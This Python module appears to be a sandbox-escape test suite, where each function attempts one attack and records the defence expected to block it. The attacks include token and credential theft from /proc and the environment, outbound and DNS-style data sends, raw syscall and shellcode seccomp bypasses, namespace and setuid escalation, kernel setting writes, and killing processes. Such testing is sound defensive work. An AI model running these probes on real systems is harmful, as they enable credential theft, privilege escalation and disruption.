"""Attacks that reach for what is not theirs: tokens, the network, the machine, its files and processes."""

from __future__ import annotations

import ctypes
import glob
import mmap
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from attack import attack

REFUSED = "PermissionError"
FOUND_NOTHING = "stopped: it got nothing"
NO_NETWORK = "--network none: there is but a loopback device"
NO_SOCKETS = "seccomp: no sockets"
READ_ONLY = "a read-only mount"
NO_RIGHTS = "no capabilities, and seccomp"
LIBC = ctypes.CDLL(None, use_errno=True)


def call(number: int, *arguments: object) -> int:
    """A system call by its number on x86-64; raises OSError as Python's own functions do."""
    done = LIBC.syscall(ctypes.c_long(number), *arguments)
    if done < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return done


@attack(FOUND_NOTHING, docker="nothing of the environment is handed on", process="names like ...TOKEN... are taken out")
def token_in_the_environment():
    """read a token from its environment"""
    return [name for name, value in os.environ.items() if "CANARY" in value]


@attack(FOUND_NOTHING, docker="a process namespace of its own", process="Landlock: no look into other processes")
def token_in_proc():
    """read a token from the environment of another process, `/proc/*/environ`"""
    found = []
    for file in glob.glob("/proc/[0-9]*/environ"):
        try:
            if b"CANARY" in Path(file).read_bytes():
                found.append(file)
        except OSError:
            continue
    return found


@attack(FOUND_NOTHING, docker="proxy variables are set to nothing", process="no `docker` client is started")
def password_of_a_proxy():
    """read the password in the proxy that the `docker` client's configuration puts into containers"""
    return [value for name, value in os.environ.items() if "proxy" in name.lower() and value]


@attack("FileNotFoundError|PermissionError", docker="the socket is not in the container", process=NO_SOCKETS)
def socket_of_the_engine():
    """talk to the container engine over its socket, which is as good as being root on the host"""
    with socket.socket(socket.AF_UNIX) as talk:
        talk.connect("/var/run/docker.sock")
        return "connected"


@attack("unreachable|PermissionError", docker=NO_NETWORK, process=NO_SOCKETS)
def connection_to_the_internet():
    """connect to an address in the internet"""
    with socket.create_connection(("1.1.1.1", 53), 3):
        return "connected"


@attack("unreachable|PermissionError", docker=NO_NETWORK, process=NO_SOCKETS)
def datagram_to_the_internet():
    """send a datagram to a name server, as exfiltration through DNS does"""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talk:
        return talk.sendto(b"secret", ("8.8.8.8", 53))


@attack("unreachable|PermissionError", docker=NO_NETWORK, process=NO_SOCKETS)
def connection_to_the_host():
    """connect to the host through the bridge of the containers"""
    with socket.create_connection(("172.17.0.1", 22), 3):
        return "connected"


@attack("unreachable|PermissionError", docker=NO_NETWORK, process=NO_SOCKETS)
def metadata_of_the_cloud():
    """ask the cloud's metadata service for credentials"""
    with socket.create_connection(("169.254.169.254", 80), 3):
        return "connected"


@attack("gaierror", docker=NO_NETWORK, process=NO_SOCKETS)
def name_lookup():
    """look a name up"""
    return socket.getaddrinfo("example.com", 80)


@attack(REFUSED, docker="the seccomp profile: local kinds of sockets only", process=NO_SOCKETS)
def vsock():
    """reach the hypervisor over AF_VSOCK, which `--network none` leaves open"""
    return socket.socket(40, socket.SOCK_STREAM)


@attack(REFUSED, docker="the seccomp profile: local kinds of sockets only", process=NO_SOCKETS)
def packet_netlink_and_crypto_sockets():
    """open sockets that talk to the kernel's larger subsystems: AF_NETLINK, AF_PACKET, AF_ALG"""
    return [socket.socket(family, socket.SOCK_RAW) for family in (16, 17, 38)]


@attack("killed by SIGSYS|PermissionError|it got nothing", docker="no 32-bit calls", process=NO_SOCKETS)
def vsock_by_a_call_of_another_width():
    """make the AF_VSOCK socket by a 32-bit system call, whose arguments the filter would not see"""
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # push rbx; mov eax, 359 (socket); mov ebx, 40; mov ecx, 1; xor edx, edx; int 0x80; pop rbx; ret
    code.write(bytes.fromhex("53 b867010000 bb28000000 b901000000 31d2 cd80 5b c3"))
    made = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    return made if made >= 0 else None


@attack("PermissionError|OSError: .Errno 38", docker="the seccomp profile", process="seccomp: no io_uring")
def sockets_by_io_uring():
    """set io_uring up, which opens files and sockets past the filter"""
    return call(425, 8, ctypes.create_string_buffer(256)) + 1


@attack(REFUSED, docker="the seccomp profile: TCP and UDP alone", process=NO_SOCKETS)
def sockets_of_other_protocols():
    """have the kernel load the modules of seldom used protocols: SCTP, DCCP, MPTCP"""
    return [socket.socket(socket.AF_INET, kind, protocol) for kind, protocol in ((1, 132), (6, 33), (1, 262))]


@attack(f"killed by SIGSYS|{REFUSED}", docker="no x32 calls", process=NO_SOCKETS)
def vsock_by_the_third_way_into_the_kernel():
    """make the AF_VSOCK socket by an x32 system call, which has another number"""
    return call(0x40000000 | 41, 40, 1, 0) + 1


@attack("Read-only file system|PermissionError", docker=READ_ONLY, process="Landlock: its temporary folder only")
def write_to_the_checkout():
    """change a file of the checkout"""
    return Path("net.py").write_text("planted")


@attack("Read-only file system|PermissionError", docker=READ_ONLY, process="Landlock: its temporary folder only")
def write_to_the_home_folder():
    """plant a file that is run later: in the home folder, in Python's packages, in /etc"""
    for place in (Path.home(), Path(sys.prefix), Path("/etc"), Path("/var/tmp")):
        if place != Path(tempfile.gettempdir()):
            Path(place, "planted-by-an-attack").write_text("x")
    return "planted"


@attack(REFUSED, docker=NO_RIGHTS, process="no such right; as root, seccomp and Landlock")
def remount():
    """mount the checkout again, writable"""
    MS_REMOUNT, MS_BIND = 32, 4096  # noqa: N806
    here = b"/src" if os.path.isdir("/src") else b"/"
    return call(165, None, here, None, ctypes.c_ulong(MS_REMOUNT | MS_BIND), None) + 1


@attack(REFUSED, docker=NO_RIGHTS, process="seccomp: no new namespaces")
def user_namespace():
    """become root in a new user namespace"""
    CLONE_NEWUSER = 0x10000000  # noqa: N806
    return call(272, CLONE_NEWUSER) + 1


@attack(
    "PermissionError|OSError: .Errno 38",
    docker="the seccomp profile: clone only without namespaces, no clone3",
    process="seccomp: likewise",
)
def user_namespace_by_clone():
    """become root in a new user namespace that clone makes"""
    CLONE_NEWUSER = 0x10000000  # noqa: N806
    child = call(56, ctypes.c_ulong(CLONE_NEWUSER | signal.SIGCHLD), None, None, None, None)
    if child == 0:
        os._exit(0)
    return child


@attack(REFUSED, docker="not root, no capabilities")
def become_root():
    """become root by setuid"""
    os.setuid(0)
    return "root"


@attack("PermissionError|it got nothing", docker="/tmp is nosuid and noexec; no new privileges")
def program_that_is_setuid():
    """make a copy of a program that runs as another user, and run it"""
    copy = Path(tempfile.gettempdir(), "id")
    shutil.copy("/usr/bin/id", copy)
    copy.chmod(0o6755)
    return subprocess.run([copy], capture_output=True, check=True).stdout


@attack(FOUND_NOTHING, docker="no new privileges, no capabilities in the bounding set")
def setuid_program_of_the_image():
    """start the image's own setuid programs and keep their rights"""
    started = "import os; print(os.geteuid())"
    status = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    keeps = int(status["CapBnd"], 16) or status["NoNewPrivs"] != "1"
    su = subprocess.run(["/bin/su", "--command", f"python -c '{started}'"], capture_output=True, check=False, input=b"")
    return keeps or su.stdout


@attack(REFUSED, docker="the seccomp profile", process="seccomp: no ptrace")
def trace_another_process():
    """take its parent over by ptrace"""
    PTRACE_ATTACH = 16  # noqa: N806
    return call(101, PTRACE_ATTACH, os.getppid(), None, None) + 1


@attack(REFUSED, docker="the seccomp profile", process="seccomp: no process_vm_readv")
def read_the_memory_of_another_process():
    """read its parent's memory"""
    return call(310, os.getppid(), None, 0, None, 0, 0) + 1


@attack(REFUSED, docker="the seccomp profile", process="seccomp: no keyctl")
def keys_of_the_kernel():
    """read the keys that the kernel holds for the user, which no namespace keeps apart"""
    KEYCTL_GET_KEYRING_ID, SESSION = 0, -3  # noqa: N806
    return call(250, KEYCTL_GET_KEYRING_ID, ctypes.c_long(SESSION), ctypes.c_long(1))


@attack(FOUND_NOTHING, docker="the engine hands none on", process="none is handed on")
def open_folders_and_sockets():
    """leave by a folder or a socket that whoever started it left open, as runc once did (CVE-2024-21626)"""
    opened = {name: os.readlink(f"/proc/self/fd/{name}") for name in os.listdir("/proc/self/fd") if _is_open(name)}
    return [target for target in opened.values() if target.startswith("socket:") or os.path.isdir(target)]


def _is_open(name: str) -> bool:
    return os.path.islink(f"/proc/self/fd/{name}")  # the listing's own descriptor is gone by now


@attack("FileNotFoundError|PermissionError", docker="no devices but the harmless ones, no capability to make more")
def disks_and_memory():
    """open the host's disks and memory, or make a device that is one"""
    for device in ("/dev/sda", "/dev/vda", "/dev/mem", "/dev/kmsg"):
        if os.path.exists(device):
            return os.open(device, os.O_RDONLY)
    os.mknod(os.path.join(tempfile.gettempdir(), "disk"), 0o60600, os.makedev(8, 0))
    return "made"


@attack("Read-only file system|PermissionError", docker="/proc and /sys are read-only, and it is not root")
def settings_of_the_kernel():
    """change what the kernel runs as root: core_pattern, a cgroup's release_agent"""
    agents = glob.glob("/sys/fs/cgroup/*/release_agent")
    for file in ("/proc/sys/kernel/core_pattern", *agents):
        Path(file).write_text("|/tmp/x")
    return "changed"


@attack("Read-only file system|PermissionError|FileNotFound", docker="cgroups are mounted read-only")
def its_own_limits():
    """raise its own limit of memory"""
    for file in ("/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max"):
        if os.path.exists(file):
            return Path(file).write_text("max")
    raise FileNotFoundError("no limits to be seen")


@attack(
    f"{REFUSED}|it got nothing",
    docker="its parent is the first process of its namespace, which nobody in it can kill",
    process="Landlock: signals stay among its own (Linux 6.12)",
)
def kill_the_parent():
    """kill the process that waits for it: exportlint's own, where there is no container"""
    parent = os.getppid()
    os.kill(parent, signal.SIGKILL)
    time.sleep(0.5)
    return "killed" if os.getppid() != parent else None


@attack("ProcessLookupError", docker="a process namespace of its own")
def kill_everything():
    """kill every process that it may"""
    os.kill(-1, signal.SIGKILL)
    return "killed"


@attack(FOUND_NOTHING, docker="the copy that it sees has no `.git`")
def token_in_the_checkout():
    """read the token that `actions/checkout` leaves in `.git/config`"""
    return [str(file) for file in Path("/src").rglob("*") if ".git/" in f"{file}/" and file.is_file()]


@attack(FOUND_NOTHING, docker="links are not copied")
def link_out_of_the_checkout():
    """follow a link in the repository to a file of the host"""
    return [str(file) for file in Path("/src").rglob("*") if file.is_symlink()]


@attack(FOUND_NOTHING, docker="neither submodules nor untracked files are copied")
def submodules_and_untracked_files():
    """read what lies in the workspace beside the tracked files, or in a submodule"""
    return [str(file) for file in Path("/src").rglob("*") if file.name in (".env", "token")]


@attack(FOUND_NOTHING, docker="only regular files are copied")
def fifos_in_the_checkout():
    """make its reader wait for ever on a FIFO in the place of a tracked file"""
    return [str(file) for file in Path("/src").rglob("*") if file.is_fifo()]
